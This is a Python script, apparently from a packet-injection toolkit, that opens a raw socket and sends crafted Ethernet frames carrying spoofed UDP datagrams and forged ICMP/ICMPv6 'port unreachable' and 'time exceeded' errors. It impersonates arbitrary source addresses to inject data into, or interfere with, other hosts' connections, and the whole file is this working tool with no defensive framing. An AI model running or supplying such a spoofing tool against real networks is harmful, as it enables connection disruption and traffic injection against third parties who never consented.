#!/usr/bin/env python3
"""Says words within connections of others.

    forge.py INTERFACE MAC WORDS…

sends frames to the MAC, one for each of the WORDS:

    udp,SOURCE,PORT,TARGET,PORT,WORD          a datagram
    error,FROM,SOURCE,PORT,TARGET,PORT        that the datagram from SOURCE to TARGET found no port
    gone,FROM,SOURCE,PORT,TARGET,PORT         that its hop limit was reached
"""
import socket
import sys
import time

from attack import ethernet, icmp, icmp6, ipv4, ipv6, udp


def opened(interface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((interface, 0))
    return s, ":".join("%02x" % byte for byte in s.getsockname()[4])


def packet(source, target, protocol, body):
    if ":" in source:
        return 0x86DD, ipv6(source, target, protocol, body, 64)
    return 0x800, ipv4(source, target, protocol, body)


def datagram(source, sport, target, dport, word):
    return packet(source, target, 17, udp(source, target, int(sport), int(dport), word.encode()))


def error(kinds, sender, source, sport, target, dport):
    quoted = datagram(source, sport, target, dport, "?")[1]
    (kind4, code4), (kind6, code6) = kinds
    if ":" in source:
        return packet(sender, source, 58, icmp6(sender, source, kind6, code6, bytes(4) + quoted))
    return packet(sender, source, 1, icmp(kind4, code4, bytes(4) + quoted))


MAKERS = {
    "udp": datagram,
    "error": lambda *words: error(((3, 3), (1, 4)), *words),
    "gone": lambda *words: error(((11, 0), (3, 0)), *words),
}

out, own = opened(sys.argv[1])
for words in sys.argv[3:]:
    kind, *fields = words.split(",")
    protocol, body = MAKERS[kind](*fields)
    out.send(ethernet(sys.argv[2], own, protocol, body).ljust(60, b"\0"))
    time.sleep(0.003)
